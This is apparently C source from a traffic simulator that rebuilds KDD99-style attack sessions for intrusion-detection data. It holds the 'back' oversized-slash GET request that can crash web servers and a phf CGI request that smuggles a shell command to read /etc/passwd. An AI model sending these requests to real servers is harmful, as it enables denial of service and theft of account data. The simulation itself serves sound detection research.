/* SPDX-License-Identifier: Apache-2.0 */
#include "tools/ganad-traffic/sessions.h"

#include <string.h>

#include "tools/ganad-traffic/draw.h"
#include "tools/ganad-traffic/tcp_script.h"
#include "tools/ganad-traffic/world.h"

/* Against web servers of the time. What they count for is what the KDD99 rows of the same label have. */

static struct conn *come(struct session *s, struct campaign *a)
{
    if (a->step == 0)
        world_inside_server(s, 80, &a->victim);
    a->attacker.port = world_port(s->world, &a->attacker);
    return tcp_open(s, &a->attacker, &a->victim);
}

/* A target of slashes alone; 54,540 bytes with what is around it, of which the server says back 8,192. */
void attack_back(struct session *s, struct campaign *a)
{
    enum { REQUEST = 54540, SAID_BACK = 8192 };
    static const char get[] = "GET ", behind[] = " HTTP/1.0\r\n\r\n";
    gad_cleanup(gad_freep) char *text = gad_calloc(1, REQUEST);
    struct conn *c = come(s, a);

    if (!text) {
        s->bad = true;
        return;
    }
    memset(text, '/', REQUEST);
    memcpy(text, get, sizeof(get) - 1);
    memcpy(text + REQUEST - (sizeof(behind) - 1), behind, sizeof(behind) - 1);
    tcp_send(s, c, ORIG, text, REQUEST, 0, TCP_TEXT);
    session_think(s, 400000);
    tcp_say(s, c, RESP, "HTTP/1.0 404 Not Found\r\n\r\n<TITLE>404</TITLE>\r\nThe requested URL ");
    tcp_send(s, c, RESP, text + 4, SAID_BACK, 0, TCP_TEXT);
    c->truth.content[TRUTH_HOT] = 1;
    if (draw_chance(&s->rng, 1, 16)) { /* some servers die of it */
        tcp_reset(s, c, RESP);
        return;
    }
    tcp_say(s, c, RESP, " was not found on this server.<P>\r\n");
    c->truth.content[TRUTH_HOT] = 2;
    c->truth.content[TRUTH_COMPROMISED] = 1;
    tcp_close(s, c, RESP);
}

/* A script that hands its argument to a shell. */
void attack_phf(struct session *s, struct campaign *a)
{
    struct conn *c = come(s, a);

    tcp_say(s, c, ORIG, "GET /cgi-bin/phf?Qalias=x%%0a/bin/cat%%20/etc/passwd\r\n\r\n");
    session_think(s, 50000);
    tcp_say(s, c, RESP,
            "<H1>Query Results</H1>\r\n<PRE>\r\nroot:x:0:1:root:/:/sbin/sh\r\n"
            "daemon:x:1:1::/:\r\nbin:x:2:2::/usr/bin:\r\nalice:x:2051:10::/users/alice:\r\n");
    tcp_send(s, c, RESP, "", 0, 7900, TCP_TEXT);
    c->truth.content[TRUTH_HOT] = 2; /* the script, and the path that it is made to read */
    c->truth.content[TRUTH_ACCESS_FILES] = 1;
    c->truth.content[TRUTH_ROOT_SHELL] = 1;
    tcp_close(s, c, RESP);
}
